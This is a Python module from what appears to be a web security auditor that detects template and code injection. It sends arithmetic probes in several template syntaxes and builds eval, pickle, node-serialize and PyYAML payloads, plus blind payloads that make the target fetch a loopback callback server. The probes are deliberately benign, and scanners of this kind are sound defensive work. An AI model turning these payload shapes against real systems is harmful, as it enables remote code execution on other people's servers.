"""Code and template injection: arithmetic on two random numbers in the syntax of the server's
language or template engine; only the result (never in the payload) counts: the product, or
the sum for Django's template language, which has no multiplication (its `add` filter).

Python code run without its result shown (`exec(value)`), and a function node-serialize runs
where its result never shows (an import that redirects), are proven by a fetch of auditor's
callback server (on 127.0.0.1, only when the target is on loopback) whose path is a one-time
token followed by the product of two random numbers the code computes: an app that only
fetches URLs found in its input would ask for the literal expression. Python's is sent only
where the value changes the answer (the code ran or failed) and no eval shape showed its result."""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Callable

from auditor.probe.callback import CallbackServer
from auditor.probe.checks.canary import fresh, numbers, token
from auditor.probe.checks.sql_code import handler_text
from auditor.probe.interface import Confirmation, Exchange, InjectionPoint, PointCheck, ProbeContext, Sender
from auditor.probe.profile import PointProfile, plain_echo
from auditor.probe.safety import is_loopback, origin_of

# (engine, payload template); {a} {b} are the numbers.
TEMPLATES = [
    ("jinja/twig/nunjucks", "{{{{{a}*{b}}}}}"),
    ("ejs/erb", "<%= {a}*{b} %>"),
    ("java el/freemarker/mako/js template literal", "${{{a}*{b}}}"),
    ("spel/ruby interpolation", "#{{{a}*{b}}}"),
    ("django", "{{{{{a}|add:{b}}}}}"),
]
SUMS = {"django"}  # engines whose shape adds
EVALS = {
    # str(): a result the handler adds to its text (`out += eval(value)`) must be a string
    "python": ["{a}*{b}", "str({a}*{b})", "'+str({a}*{b})+'", '"+str({a}*{b})+"'],
    "javascript": ["{a}*{b}", "'+({a}*{b})+'", '"+({a}*{b})+"'],
    "typescript": ["{a}*{b}", "'+({a}*{b})+'", '"+({a}*{b})+"'],
    "ruby": ["{a}*{b}", "'+({a}*{b}).to_s+'"],
    "php": ["{a}*{b}", "'.({a}*{b}).'"],
}
ALL_EVALS = ["{a}*{b}", "'+str({a}*{b})+'", "'+({a}*{b})+'", '"+({a}*{b})+"']
# A Python handler that runs text as code.
EVALUATES = re.compile(r"\b(?:eval|exec)\s*\(")
# node-serialize's unserialize() runs a value marked as a function, and an immediately invoked
# one runs as it is read: the object comes back holding the product.
UNSERIALIZES = re.compile(r"\bunserialize\s*\(")
NODE_SERIALIZE = '{{"audit":"_$$ND_FUNC$$_function(){{return {a}*{b}}}()"}}'
# Blind JavaScript (node-serialize's function run where its result is never shown): Node's http
# module fetches the callback server, errors ignored.
NODE_SERIALIZE_FN = '{{"audit":"_$$ND_FUNC$$_function(){{{body}}}()"}}'
NODE_FETCH = "require('http').get('{url}'+({a}*{b})).on('error',function(){{}})"
# A Python handler that unpickles its input makes the calls the pickle names: protocol 0's text
# of a call to eval on arithmetic (or on the blind fetch below). `__builtin__` is Python 2's
# name, which Python 3 maps to `builtins` for such pickles.
PICKLE_EVAL = "c__builtin__\neval\n(V{expression}\ntR."
# Blind Python: a statement and an expression alike, bounded in time, its answer discarded.
# Python 3's urllib.request, or Python 2's urllib2 (an app still on 2.7).
PYTHON_FETCH = ("(__import__('urllib.request',fromlist=['urlopen']) if __import__('sys').version_info[0]>2 "
                "else __import__('urllib2')).urlopen('{url}'+str({a}*{b}),timeout=3).close()")


UNPICKLES_HERE = re.compile(r"\b(?:c?[Pp]ickle|dill)\.loads?\(")
# PyYAML loaders that build Python objects from tags: unsafe_load, an explicit Loader/UnsafeLoader,
# or load() with no loader (PyYAML before 5.1 builds them by default; 5.1-5.3's FullLoader still
# applies callables). A `!!python/object/apply:eval [...]` document calls eval as it is loaded.
UNSAFE_YAML = re.compile(r"\byaml\.(?:unsafe_load(?:_all)?\s*\(|load(?:_all)?\s*\((?:[^()]*Loader\s*=\s*(?:yaml\.)?"
                         r"(?:Unsafe)?Loader\b|\s*[\w.]+\s*\)))")


def yaml_eval(expression: str) -> str:
    """A YAML document that, loaded with Python tags, evaluates `expression`."""
    return "!!python/object/apply:eval [" + json.dumps(expression) + "]"

# A bare name evaluated as code where nothing defines it: the interpreter's own error names it.
# JavaScript's `ReferenceError: x is not defined`, Python's `NameError: name 'x' is not defined`
# (its quotes maybe escaped by an HTML page). `{t}` is the token sent.
UNDEFINED = (r"ReferenceError: {t} is not defined",
             r"NameError: (?:global )?name (?:'|&#39;|&#x27;|&apos;){t}(?:'|&#39;|&#x27;|&apos;) is not defined")


def pickled(expression: str) -> str:
    """The pickle that evaluates `expression`, base64-encoded so that standard and URL-safe
    decoders alike read it: trailing spaces are added to the expression until the encoding holds
    neither alphabet's own characters (`+/`, `-_`)."""
    for pad in range(24):
        encoded = base64.b64encode(PICKLE_EVAL.format(expression=expression + " " * pad).encode()).decode()
        if not set(encoded) & set("+/-_"):
            return encoded
    return base64.b64encode(PICKLE_EVAL.format(expression=expression).encode()).decode()


def result(engine: str, a: int, b: int) -> int:
    """What the engine's shape computes from the two numbers."""
    return a + b if engine in SUMS else a * b


class CodeInjection(PointCheck):
    name = "code"
    category = "code-injection"

    def worth(self, point: InjectionPoint, profile: PointProfile) -> bool:
        # An eval whose failure only echoes the value (`Error evaluating 'x'`) answers the canary
        # like any text: where the value comes back from a Python handler the code shows, `run`
        # reads the handler, and sends the bare shapes where it calls eval or exec.
        # An input the code base64-decodes shows nothing of its canary: `run` reads the handler.
        return profile.influenced or (profile.reflected and profile.special) or \
            (profile.reflected and point.route.language == "python" and bool(point.route.file)) or \
            (bool(point.param.decoded) and point.route.language == "python" and bool(point.route.file))

    def code_says(self, point: InjectionPoint, handler: str) -> bool:
        # node-serialize's unserialize of a file or cookie that fails alike for every plain value;
        # a Python handler that loads YAML with Python tags (every plain text loads alike)
        return point.route.language in ("javascript", "typescript") and bool(UNSERIALIZES.search(handler)) or \
            point.route.language == "python" and bool(UNSAFE_YAML.search(handler))

    def run(self, sender: Sender, ctx: ProbeContext, point: InjectionPoint) -> Confirmation | None:
        base = sender.baseline(point)
        evals = EVALS.get(point.route.language, ALL_EVALS)
        profile = ctx.profile(point)
        handler = handler_text(ctx.project, point.route)  # what the code does with the value, read once
        # A template renders its input (the canary came back); an eval changes the answer.
        templates = TEMPLATES if profile is None or (profile.reflected and profile.special) else []
        # A bare eval fails on any token; quotes matter only to an eval inside a string.
        bare = [e for e in evals if "'" not in e and '"' not in e]
        evals = evals if profile is None or profile.special else bare if profile.influenced else \
            bare if profile.reflected and EVALUATES.search(handler) else []
        if len(templates) > 1:
            # Every template syntax in one request, each with its own numbers: engines leave the
            # others' syntax as text. Tried one by one only when that answer was not a plain echo.
            shaped = [(engine, shape, numbers()) for engine, shape in templates]
            payload = " ".join(shape.format(a=a, b=b) for _, shape, (a, b) in shaped)
            ex = sender.send(point, payload)
            for engine, _, (a, b) in shaped:
                if fresh(ex, str(want := result(engine, a, b)), base):
                    return self._confirmed(ex, point, engine, want)
            if plain_echo(profile, ex, payload):
                templates = []
        shapes = [(engine, t) for engine, t in templates] + [("eval", e) for e in evals]
        for engine, shape in shapes:
            a, b = numbers()
            ex = sender.send(point, shape.format(a=a, b=b))
            if fresh(ex, str(want := result(engine, a, b)), base):
                return self._confirmed(ex, point, engine, want)
        if (found := self._undefined_name(sender, point, profile)) is not None:
            return found
        if point.route.language in ("javascript", "typescript") and \
                UNSERIALIZES.search(handler):
            a, b = numbers()
            ex = sender.send(point, NODE_SERIALIZE.format(a=a, b=b))
            if fresh(ex, str(a * b), base):
                return self._confirmed(ex, point, "node-serialize", a * b)
            return self._fetched(sender, ctx, point, lambda fetch: NODE_SERIALIZE_FN.format(body=fetch),
                                 "is unserialized by node-serialize, and the function it marks runs", NODE_FETCH)
        # (a handler the code shows unpickling: every plain value fails to unpickle alike, so the
        # canary changed nothing there)
        if point.route.language == "python" and ctx.unpickles and \
                (profile is None or profile.influenced or UNPICKLES_HERE.search(handler)) and \
                (found := self._unpickled(sender, ctx, point, base)) is not None:
            return found
        if point.route.language == "python" and UNSAFE_YAML.search(handler) and \
                (found := self._yaml_loaded(sender, ctx, point, base)) is not None:
            return found
        decoded_into_code = bool(point.param.decoded) and bool(EVALUATES.search(handler))
        if point.route.language == "python" and (profile is None or profile.influenced or bool(evals) or decoded_into_code):
            return self._fetched(sender, ctx, point)
        return None

    def _undefined_name(self, sender: Sender, point: InjectionPoint, profile: PointProfile | None) -> Confirmation | None:
        """The value evaluated as code whose result never shows (`eval(req.body.preTax)` checked
        against a range): a bare random name is answered with the interpreter's error naming it as
        undefined, for the profile's plain canary and then for a fresh one."""
        def names_it(ex: Exchange, tok: str) -> bool:
            return any(re.search(shape.format(t=re.escape(tok)), ex.text) for shape in UNDEFINED)

        if profile is None or profile.sent != profile.tag or not names_it(profile.exchange, profile.tag):
            return None  # only the profile's bare canary is asked: no request of its own unless it was named
        tok = token()
        ex = sender.send(point, tok)
        if not names_it(ex, tok):
            return None
        return Confirmation(self.category, self.name,
                            f"code injection: {point.label} is evaluated as code (a random bare name sent as its "
                            "value was answered with the interpreter's error that it is not defined)", ex, tok, point,
                            severity="critical")

    def _unpickled(self, sender: Sender, ctx: ProbeContext, point: InjectionPoint, base: Exchange) -> Confirmation | None:
        """A pickle that evaluates the product, base64-encoded (as a value in a URL or cookie is), as
        its own text and as a Python bytes literal (`b'...'`, for a handler that reads the value with
        ast.literal_eval before it unpickles it); blind, one that fetches the callback server."""
        a, b = numbers()
        raw = PICKLE_EVAL.format(expression=f"str({a}*{b})")
        # a value the code base64-decodes itself is encoded by the sender
        shapes = [raw] if point.param.decoded == "base64" else [pickled(f"str({a}*{b})"), raw, repr(raw.encode())]
        for payload in shapes:
            ex = sender.send(point, payload)
            if fresh(ex, str(a * b), base):
                return self._confirmed(ex, point, "pickle", a * b)
        wrapped = (lambda fetch: PICKLE_EVAL.format(expression=fetch)) if point.param.decoded == "base64" else pickled
        return self._fetched(sender, ctx, point, wrapped, "is unpickled, and the pickle's calls run")

    def _yaml_loaded(self, sender: Sender, ctx: ProbeContext, point: InjectionPoint, base: Exchange) -> Confirmation | None:
        """A YAML document whose Python tag evaluates the product, then (its result never shown:
        `"loaded: " + type(obj).__name__`) one that fetches the callback server."""
        a, b = numbers()
        ex = sender.send(point, yaml_eval(f"str({a}*{b})"))
        if fresh(ex, str(a * b), base):
            return self._confirmed(ex, point, "yaml", a * b)
        return self._fetched(sender, ctx, point, yaml_eval,
                             "is loaded as YAML with Python tags, and the call its tag names runs")

    def _fetched(self, sender: Sender, ctx: ProbeContext, point: InjectionPoint,
                 wrapped: Callable[[str], str] = str, how: str = "is run as Python",
                 fetch: str = PYTHON_FETCH) -> Confirmation | None:
        """Blind code: the fetch of the callback server (`fetch`: Python's, or Node's; `wrapped`: as
        the value that carries it, a pickle of it) heard with the product the code computed."""
        server = ctx.callback
        if not isinstance(server, CallbackServer) or not is_loopback(origin_of(ctx.origin)[1]):
            return None
        tok, (a, b) = token(), numbers()
        ex = sender.send(point, wrapped(fetch.format(url=server.url(tok), a=a, b=b)))
        heard = f"{tok}{a * b}"
        if not server.seen(heard, wait=0.3):
            return None
        sent = " (sent base64-encoded: the code decodes it first)" if point.param.decoded == "base64" else ""
        return Confirmation(self.category, self.name,
                            f"code injection: {point.label} {how}{sent} (it fetched auditor's callback "
                            "server with a one-time token and the product of two random numbers)", ex, heard, point,
                            severity="critical")

    def _confirmed(self, ex: Exchange, point: InjectionPoint, engine: str, product: int) -> Confirmation:
        template = engine not in ("eval", "pickle", "node-serialize", "yaml")
        if engine == "pickle":
            how = "is unpickled, and the pickle's call to eval runs: the product of two random numbers came back"
        elif engine == "yaml":
            how = ("is loaded as YAML with Python tags, and the tag's call to eval runs: the product of two random "
                   "numbers came back")
        else:
            how = f"is evaluated ({engine} syntax; the {'sum' if engine in SUMS else 'product'} of two random numbers came back)"
        return Confirmation(self.category, "template" if template else self.name,
                            f"{'server-side template injection' if template else 'code injection'}: {point.label} {how}",
                            ex, str(product), point, severity="critical")
